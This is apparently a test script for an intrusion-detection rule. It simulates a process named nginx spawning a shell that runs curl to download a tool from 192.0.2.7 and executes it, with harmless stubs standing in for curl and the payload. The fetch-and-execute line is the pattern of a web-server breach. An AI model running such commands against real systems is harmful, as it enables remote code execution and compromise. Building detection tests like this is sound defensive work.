#!/bin/sh
# what: Has a program with the name of a web server start a shell that fetches something and starts it.
# rule: service_breached
# technique: T1190
# severity: critical
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/sh "$d/nginx"
ln -s nginx "$d/sh"
cp /bin/true "$d/curl"
cp /bin/true "$d/tool"
"$d/sh" -c '/bin/sh -c "\$0/curl -o \$0/tool http://192.0.2.7/tool; \$0/tool; :" "$0"; :' "$d"
